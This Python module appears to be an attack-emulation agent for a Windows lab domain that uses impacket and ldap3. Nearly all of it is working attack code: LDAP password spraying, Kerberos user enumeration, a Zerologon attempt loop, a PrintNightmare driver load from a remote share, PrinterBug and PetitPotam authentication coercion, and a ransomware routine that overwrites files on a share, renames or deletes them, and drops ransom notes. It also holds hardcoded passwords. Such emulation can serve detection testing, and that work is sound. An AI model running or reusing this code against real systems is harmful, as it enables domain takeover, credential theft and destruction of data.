"""Deeds of agent.py that speak with Windows protocols, by way of impacket and ldap3."""
import os
import time


def ldap(address, user, words):
    """A simple bind for each word."""
    from ldap3 import Connection, Server
    for word in open(words).read().split():
        c = Connection(Server(address), user, word)
        c.bind()
        c.unbind()


def kerberos(address, count):
    """Asks for tickets of names that may exist, without a proof."""
    from impacket.krb5 import constants
    from impacket.krb5.kerberosv5 import KerberosError, getKerberosTGT
    from impacket.krb5.types import Principal
    for n in range(int(count)):
        try:
            getKerberosTGT(Principal(f"user{n * 3}", type=constants.PrincipalNameType.NT_PRINCIPAL.value), "x", "LAB.EXAMPLE", b"", b"", kdcHost=address)
        except (KerberosError, OSError):
            pass


def zerologon(address):
    """Up to 300 attempts with a credential of zeros (CVE-2020-1472); nothing is set."""
    from impacket.dcerpc.v5 import epm, nrpc, transport
    for _ in range(300):
        rpc = transport.DCERPCTransportFactory(epm.hept_map(address, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")).get_dce_rpc()
        rpc.connect()
        rpc.bind(nrpc.MSRPC_UUID_NRPC)
        nrpc.hNetrServerReqChallenge(rpc, "dc1\x00", "dc1\x00", b"\0" * 8)
        try:
            nrpc.hNetrServerAuthenticate3(rpc, "dc1\x00", "dc1$\x00", nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, "dc1\x00", b"\0" * 8, 0x212fffff)
            return
        except Exception:
            pass


def printnightmare(address):
    """RpcAddPrinterDriverEx with a driver on another host (CVE-2021-34527)."""
    from impacket.dcerpc.v5 import rprn, transport
    user, word = ("Administrator", "Winter2026!") if address.endswith(".10") else ("root", "Zomer2026")
    pipe = transport.DCERPCTransportFactory(rf"ncacn_np:{address}[\pipe\spoolss]")
    pipe.set_credentials(user, word, "LAB")
    rpc = pipe.get_dce_rpc()
    rpc.connect()
    rpc.bind(rprn.MSRPC_UUID_RPRN)
    box = rprn.DRIVER_CONTAINER()
    box["Level"] = 2
    box["DriverInfo"]["tag"] = 2
    info = box["DriverInfo"]["Level2"]
    info["cVersion"] = 3
    info["pName"], info["pEnvironment"] = "1234\x00", "Windows x64\x00"
    info["pDriverPath"] = "C:\\Windows\\System32\\UNIDRV.DLL\x00"
    info["pDataFile"], info["pConfigFile"] = "\\\\10.66.0.66\\x\\a.dll\x00", "C:\\Windows\\System32\\kernelbase.dll\x00"
    rprn.hRpcAddPrinterDriverEx(rpc, pName="\x00", pDriverContainer=box, dwFileCopyFlags=0x8014)


def pipe_of(address, name, interface):
    from impacket.dcerpc.v5 import transport
    pipe = transport.DCERPCTransportFactory(rf"ncacn_np:{address}[\pipe\{name}]")
    pipe.set_credentials("user1", "Lente2026", "LAB") if address.endswith(".10") else pipe.set_credentials("evelien", "Zomer2026", "")
    rpc = pipe.get_dce_rpc()
    rpc.connect()
    rpc.bind(interface)
    return rpc


def printerbug(address, to):
    """A server is asked to tell another host of its printers' changes (MS-RPRN 3.1.4.10.4)."""
    from impacket.dcerpc.v5 import rprn
    rpc = pipe_of(address, "spoolss", rprn.MSRPC_UUID_RPRN)
    held = rprn.hRpcOpenPrinter(rpc, f"\\\\{address}\x00")
    rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(rpc, held["pHandle"], rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine=f"\\\\{to}\x00")


def petitpotam(address, to):
    """EfsRpcOpenFileRaw of a file on another host (CVE-2021-36942), over the pipe of the security authority."""
    from impacket.dcerpc.v5.dtypes import DWORD, WSTR
    from impacket.dcerpc.v5.ndr import NDRCALL
    from impacket.uuid import uuidtup_to_bin

    class EfsRpcOpenFileRaw(NDRCALL):
        opnum = 0
        structure = (("fileName", WSTR), ("Flag", DWORD))
    rpc = pipe_of(address, "lsarpc", uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")))
    ask = EfsRpcOpenFileRaw()
    ask["fileName"], ask["Flag"] = f"\\\\{to}\\x\\x.txt\x00", 0
    rpc.request(ask)


def ransom(address, how):
    """Encrypts what a share holds: rewrites in place and renames, or writes anew and deletes; leaves notes."""
    from impacket.smbconnection import SMBConnection
    import io
    c = SMBConnection(address, address)
    c.login("root", "Zomer2026")
    text = ("De patiënt is gezien op de polikliniek en komt over zes weken terug. " * 200).encode()
    c.createDirectory("home", "zorg")
    names = [rf"zorg\verslag{n}.docx" for n in range(60)]
    for name in names:
        c.putFile("home", name, io.BytesIO(text).read)
    time.sleep(3)
    for n, name in enumerate(names):
        held = io.BytesIO()
        c.getFile("home", name, held.write)
        junk = io.BytesIO(os.urandom(len(held.getvalue())))
        if how == "rename":
            c.putFile("home", name, junk.read)
            c.rename("home", name, name + ".lck9")
        else:
            c.putFile("home", name + ".crypted", junk.read)
            c.deleteFile("home", name)
        if n % 20 == 0:
            c.putFile("home", rf"zorg\HOW_TO_RESTORE{n}.txt", io.BytesIO(b"Your files are encrypted. Write to us.").read)
